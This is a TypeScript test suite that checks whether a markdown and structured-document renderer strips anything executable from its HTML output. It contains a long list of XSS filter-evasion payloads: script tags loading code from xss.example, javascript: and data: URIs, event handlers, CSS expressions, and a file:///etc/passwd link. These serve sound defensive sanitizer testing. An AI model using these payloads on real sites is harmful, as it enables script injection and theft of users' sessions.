import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { documentToMarkdown } from '../../../markdown/document/document.js';
import {
  block,
  type BlockNode,
  type InlineNode,
  paragraph,
  text,
  voidBlock,
  voidInline,
} from '../../../markdown/document/nodes.js';
import { FILES, pageWith, rendered, renderedPage } from '../../../../test/support/rendered-content.js';

/** Elements that texts may have, besides those of formulas. */
const ELEMENTS = new Set(
  (
    'a abbr b bdi bdo big blockquote br button cite code col colgroup data dd del details dfn div dl dt em figcaption ' +
    'figure h2 h3 h4 hr i img input ins kbd label li mark ol p path picture pre q s samp section small source span ' +
    'circle ellipse line polygon polyline rect strong sub summary sup svg table tbody td tfoot th thead time tr u ul var wbr address caption'
  ).split(' '),
);
const ATTRIBUTES =
  /^(?:class|id|href|src|srcset|sizes|type|alt|title|width|height|loading|decoding|fetchpriority|rel|target|download|dir|lang|role|tabindex|hidden|open|checked|disabled|name|for|start|scope|colspan|rowspan|datetime|viewbox|d|fill|fill-?opacity|stroke|stroke-?(?:width|linecap|linejoin)|c?[xy]|r[xy]?|[xy][12]|points|style|align|aria-[a-z]+|data-(?:copy|copy-text|zoom|embed|popover|mermaid|tabs|back|search|code))$/i;
/** Addresses that a browser follows without running anything. */
const SAFE =
  /^(?:https?:\/\/|mailto:|tel:|sms:|xmpp:|ftps?:\/\/|ircs?:\/\/|[#/?]|(?![a-z][a-z\d+.-]*:)[^\s])/i;
const EMBEDDED = /^data:image\/(?:apng|avif|bmp|gif|jpe?g|png|webp)[;,]/i;
const STYLE = /^(?:width:[\d.]+(?:px|%)|--columns:(?:minmax\(0,[\d.]+(?:fr|px)\) ?)+)$/;

interface Tree {
  type: string;
  tagName?: string;
  properties?: Record<string, unknown>;
  children?: Tree[];
}

/** What of some HTML a browser could run. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  const waiting: Tree[] = [unified().use(rehypeParse, { fragment: true }).parse(html)];
  for (let node = waiting.pop(); node !== undefined; node = waiting.pop()) {
    const { type, tagName = '', properties = {}, children = [] } = node;
    if (Array.isArray(properties.className) && properties.className.includes('katex')) continue;
    waiting.push(...children);
    if (type === 'comment' || type === 'doctype') dangers.push(type);
    if (type !== 'element') continue;
    if (!ELEMENTS.has(tagName)) dangers.push(`<${tagName}>`);
    for (const [property, value] of Object.entries(properties)) {
      const name = attributeOf(property);
      // Browsers ignore control characters and spaces around an address.
      const written = (Array.isArray(value) ? value.join(' ') : String(value)).replace(/^[\p{Cc} ]+/u, '');
      if (!ATTRIBUTES.test(name)) dangers.push(`${name}="${written}"`);
      if (name === 'href' && !SAFE.test(written)) dangers.push(`${name}="${written}"`);
      if (name === 'src' && !SAFE.test(written) && !EMBEDDED.test(written))
        dangers.push(`${name}="${written}"`);
      if (name === 'data-embed' && !written.startsWith('https://')) dangers.push(`${name}="${written}"`);
      if (name === 'style' && !STYLE.test(written)) dangers.push(`${name}="${written}"`);
      if (name === 'id' && /^(?:user-content-)?$/.test(written)) dangers.push('empty ID');
    }
  }
  return dangers;
}

function attributeOf(property: string): string {
  const special: Record<string, string> = {
    className: 'class',
    htmlFor: 'for',
    srcSet: 'srcset',
    viewBox: 'viewbox',
  };
  if (special[property] !== undefined) return special[property];
  return property
    .replace(/^(data|aria)([A-Z])/, '$1-$2')
    .replace(/(?<=^data-.*)[A-Z]/g, (letter) => `-${letter}`)
    .replace('--', '-')
    .toLowerCase();
}

/** Forms of the OWASP cheat sheet for filter evasion, and some of HTML parsers. */
const FORMS = [
  '<SCRIPT SRC=https://xss.example/x.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  '<img src="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("x")`>',
  '<a onmouseover="alert(1)">xss link</a>',
  '<a href="javascript:alert(1)" onmouseover=alert(1)>xss link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097alert(1)">',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC= onmouseover="alert(1)">',
  '<IMG onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Click</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61alert(1)">Click</a>',
  '<a href="jav\tascript:alert(1);">Click</a>',
  '<a href="jav&#x09;ascript:alert(1);">Click</a>',
  '<a href="jav&#x0A;ascript:alert(1);">Click</a>',
  '<a href="jav&#x0D;ascript:alert(1);">Click</a>',
  '<a href=" &#14;  javascript:alert(1);">Click</a>',
  '<a href="\u0001javascript:alert(1)">Click</a>',
  '<a href="java\0script:alert(1)">Click</a>',
  '<a href="vbscript:msgbox(1)">Click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Click</a>',
  '<a href="ref:javascript:alert(1)">Click</a>',
  '<SCRIPT/XSS SRC="https://xss.example/x.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="https://xss.example/x.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=https://xss.example/x.js?< B >',
  '<SCRIPT SRC=//xss.example/.j>',
  '<IMG SRC="`<javascript:alert>`(1)"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<IMG DYNSRC="javascript:alert(1)">',
  '<IMG LOWSRC="javascript:alert(1)">',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'Set.constructor`alert\\x28document.domain\\x29',
  '<BODY ONLOAD=alert(1)>',
  '<BGSOUND SRC="javascript:alert(1);">',
  '<BR SIZE="&{alert(1)}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
  '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
  '<XSS STYLE="xss:expression(alert(1))">',
  '<xss onclick="alert(1)" style="behavior: url(xss.htc);">x</xss>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD4=">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(1)">',
  '<TABLE><TD BACKGROUND="javascript:alert(1)">',
  '<DIV STYLE="background-image: url(javascript:alert(1))">',
  '<DIV STYLE="width: expression(alert(1));">',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<div id="a" name="getElementById"><img name="body"><a id="x"><a id="x" name="y" href="javascript:alert(1)"></div>',
  '<p><font color="red" onclick="alert(1)">x</font></p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<select><style></select><script>alert(1)</script>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<i class="fa-x" onclick="alert(1)">x</i>',
  '<table data-view="cards"><tr><td onclick=alert(1)><a href="javascript:alert(1)">x</a></td></tr></table>',
  '<details><summary onclick="alert(1)"><a href="javascript:alert(1)">x</a></summary><svg onload=alert(1)></details>',
  '<!DOCTYPE x [<!ENTITY y "z">]><x>&y;</x>',
  '<?xml version="1.0"?><x onclick="alert(1)"/>',
];

/** Addresses that run something. */
const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload="alert(1)">',
  'blob:https://x/1',
  'file:///etc/passwd',
  'ref:x',
];

describe('markdown', () => {
  it.each(FORMS)('runs nothing of %s', async (form) => {
    const places = [
      form,
      `Text ${form} text`,
      `> ${form}`,
      `* ${form}`,
      `# ${form}`,
      `| a |\n| - |\n| ${form} |`,
    ];
    places.push(
      `{% hint style="info" %}\n${form}\n{% endhint %}`,
      `\`\`\`html ${form}\n${form}\n\`\`\``,
      `[${form}](${form})`,
    );
    places.push(
      `<details>\n\n<summary>${form}</summary>\n\n${form}\n\n</details>`,
      `[^1]\n\n[^1]: ${form}`,
      `<div>${form}</div>`,
    );
    places.push(
      `{% tabs %}\n{% tab title="${form.replaceAll('"', "'")}" %}\n${form}\n{% endtab %}\n{% endtabs %}`,
    );
    for (const place of places) expect(dangersIn(await rendered(place))).toEqual([]);
  });

  it.each(ADDRESSES)('leads nowhere with %j', async (address) => {
    const places = [
      `[a](<${address}>)`,
      `![a](<${address}>)`,
      `<a href="${address}">a</a>`,
      `<img src="${address}">`,
    ];
    places.push(
      `{% embed url="${address}" %}`,
      `{% file src="${address}" %}`,
      `<a href="${address}" class="button primary">a</a>`,
    );
    places.push(
      `{% content-ref url="${address}" %}\n{% endcontent-ref %}`,
      `<div><a href="${address}">a</a></div>`,
    );
    for (const place of places) expect(dangersIn(await rendered(place))).toEqual([]);
  });

  it.each([
    '\\href{javascript:alert(1)}{x}',
    '\\htmlData{x=y}{a}',
    '\\includegraphics{javascript:alert(1)}',
    '\\url{javascript:x}',
  ])('writes no links in formulas: %s', async (formula) => {
    const html = await rendered(`$$\n${formula}\n$$\n\nIn $$${formula}$$ line`);
    expect(html.replaceAll('xmlns="http', '')).not.toMatch(/\b(?:href|src|data-x)=/);
  });
});

describe('structured documents', () => {
  const inline = (type: string, data: object, nodes?: InlineNode['nodes']): BlockNode =>
    paragraph([
      { object: 'inline', type, isVoid: nodes === undefined, data: { ...data }, ...(nodes ? { nodes } : {}) },
    ]);

  it.each(ADDRESSES)('lead nowhere with %j', async (url) => {
    const ref = { kind: 'url', url };
    const nodes: BlockNode[] = [
      inline('link', { ref }, [text('a')]),
      inline('mention', { ref }),
      inline('button', { label: 'a', ref }),
      inline('inline-image', { ref, refDark: ref }),
      voidBlock('image', { ref, refDark: ref }),
      voidBlock('file', { ref }),
      voidBlock('content-ref', { ref }),
      voidBlock('reusable-content', { ref }),
      voidBlock('embed', { url }),
      voidBlock('swagger', { ref }),
    ];
    // Even if the targets say so.
    const targets = { [`url/${url}`]: { href: url, title: url, external: true } };
    expect(dangersIn(await shown(nodes, targets))).toEqual([]);
  });

  it('have values of the wrong type or with markup', async () => {
    const bad = '"><img src=x onerror=alert(1)>';
    for (const value of [bad, 1, null, [], {}, true, { kind: bad, url: 'javascript:x' }]) {
      const data = Object.fromEntries(
        [
          'ref',
          'style',
          'title',
          'align',
          'width',
          'url',
          'label',
          'icon',
          'syntax',
          'meta',
          'formula',
          'code',
        ]
          .concat([
            'expression',
            'name',
            'attributes',
            'start',
            'checked',
            'date',
            'tags',
            'description',
            'path',
            'method',
          ])
          .concat([
            'view',
            'definition',
            'records',
            'schemas',
            'markdown',
            'lineNumbers',
            'overflow',
            'action',
            'size',
          ])
          .map((name) => [name, value]),
      );
      const types = [
        'paragraph',
        'heading-1',
        'list-ordered',
        'list-tasks',
        'list-item',
        'code',
        'hint',
        'math',
        'images',
        'image',
      ];
      types.push(
        'file',
        'embed',
        'content-ref',
        'expandable',
        'tabs',
        'tabs-item',
        'stepper',
        'columns',
        'column',
        'table',
        'if',
      );
      types.push(
        'swagger',
        'openapi-operation',
        'openapi-schemas',
        'openapi-webhook',
        'element',
        'comment',
        'definition',
        'raw',
      );
      types.push('prompt', 'updates', 'update', 'drawing', 'blockquote', 'reusable-content', 'unheard-of');
      const inlines = [
        'link',
        'inline-image',
        'emoji',
        'icon',
        'expression',
        'inline-math',
        'mention',
        'button',
        'annotation',
      ];
      const nodes = [
        ...types.map((type) => block(type, data, [block('tabs-item', data, []), block('column', data, [])])),
        ...[...inlines, 'element', 'raw', 'unheard-of'].map((type) => paragraph([voidInline(type, data)])),
      ];
      expect(dangersIn(await shown(nodes))).toEqual([]);
    }
  });

  it('hold names of files and colors with markup', async () => {
    const name = '"><script>alert(1)</script>';
    const files = { ...FILES, bad: { ...FILES.report, name, href: '/f', size: 1, contentType: name } };
    const page = pageWith('{% file src="ref:file/bad" %}', { files });
    expect(dangersIn((await renderedPage(page)).html)).toEqual([]);
    const mark = { object: 'mark' as const, type: 'color' as const, data: { text: name, background: 'x y' } };
    expect(dangersIn(await shown([paragraph([text('a', [mark])])]))).toEqual([]);
  });
});

/** The HTML of blocks that no text was read from. */
async function shown(nodes: BlockNode[], targets: object = {}): Promise<string> {
  const { context } = await renderedPage(pageWith('', { targets: { ...targets } }));
  const { renderToString } = await import('preact-render-to-string');
  const { Fragment, h } = await import('preact');
  return renderToString(h(Fragment, null, context.blocks(nodes)));
}

describe('deep and long texts', () => {
  it('are rendered at any depth', async () => {
    let node: BlockNode = paragraph([text('deep')]);
    for (let depth = 0; depth < 3_000; depth += 1) node = block('blockquote', {}, [node]);
    const html = await shown([node]);
    expect(html).toContain('deep');
    expect(html.split('<blockquote>').length).toBeLessThan(110);
    expect(await rendered('> '.repeat(500) + 'deep')).toContain('deep');
    expect(await rendered('<div>'.repeat(300) + 'deep')).toContain('deep');
    expect(documentToMarkdown({ object: 'document', data: {}, nodes: [] })).toBe('');
  });

  it.each([
    ['paragraphs', 'Some **bold** text with a [link](https://example.com) and `code`.\n\n'],
    ['lists', '* item\n  * nested\n'],
    ['HTML', '<div><p>a <b>b</b></p></div>\n\n'],
    ['code', '```ts\nconst a = 1;\n```\n\n'],
    ['formulas', '$$a^2$$ and $$b$$\n\n'],
    ['footnotes', 'a[^1] '],
    ['raw tags', 'a <u>b <x-y>c '],
    ['table rows', '| a | b |\n| - | - |\n'],
  ])('of %s take output in proportion to their length', async (_, piece) => {
    const length = async (bytes: number) =>
      (await rendered(piece.repeat(Math.ceil(bytes / piece.length)))).length;
    const [one, two] = [await length(40_000), await length(80_000)];
    expect(two).toBeLessThan(one * 2.5);
  });
});
